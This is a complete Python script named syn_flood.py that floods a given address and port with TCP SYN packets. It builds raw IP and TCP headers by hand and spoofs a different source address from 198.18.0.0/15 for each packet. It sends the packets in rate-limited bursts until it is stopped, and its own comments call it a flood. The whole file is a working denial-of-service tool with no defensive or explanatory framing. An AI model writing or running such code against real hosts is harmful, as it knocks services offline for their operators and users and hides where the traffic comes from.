"""SYNs from addresses that nobody has, 198.18.0.0/15, each from another one, until it is ended.

Usage: syn_flood.py ADDRESS PORT PACKETS-A-SECOND"""

import itertools
import socket
import struct
import sys
import time

BURST = 50


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(number, target, port):
    source = (0xC6120000 + number % 0x20000).to_bytes(4, "big")
    ports = struct.pack("!HH", 1024 + number % 60000, port)
    rest = struct.pack("!IIBBHHH", number, 0, 5 << 4, 2, 8192, 0, 0)
    pseudo = source + target + struct.pack("!BBH", 0, socket.IPPROTO_TCP, 20)
    right = checksum(pseudo + ports + rest)
    # The kernel fills in the lengths and the checksum of the IP header.
    header = struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0) + source + target
    return header + ports + rest[:12] + struct.pack("!HH", right, 0)


def main(address, port, rate):
    target = socket.inet_aton(address)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    packets = (syn(number, target, int(port)) for number in itertools.count())
    for turn in itertools.count(start=1):
        began = time.monotonic() if turn == 1 else began
        for packet in itertools.islice(packets, BURST):
            try:
                raw.sendto(packet, (address, 0))
            except OSError:
                # The interface's queue is full: it is a flood.
                pass
        time.sleep(max(0, began + turn * BURST / int(rate) - time.monotonic()))


main(*sys.argv[1:])
